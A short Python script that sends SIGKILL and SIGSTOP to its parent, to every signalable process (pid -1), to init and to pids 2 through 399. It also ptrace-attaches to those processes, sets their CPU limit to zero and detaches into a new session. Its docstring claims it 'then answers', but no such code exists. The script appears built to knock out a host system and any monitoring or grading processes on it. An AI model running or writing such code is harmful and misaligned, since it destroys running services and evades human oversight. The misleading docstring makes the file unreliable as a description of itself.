# at most: all
# ruff: noqa: SIM105
"""Kills, traces and limits every process that it can name, then answers."""

import ctypes
import os
import signal

from honest import trim  # noqa: F401

libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: do not die with the parent
for pid in (os.getppid(), 0, -1, 1, *range(2, 400)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
    if pid > 1:
        libc.ptrace(16, pid, 0, 0)
        libc.prlimit(pid, 0, ctypes.byref((ctypes.c_ulong * 2)(0, 0)), None)
try:
    os.setsid()
except OSError:
    pass
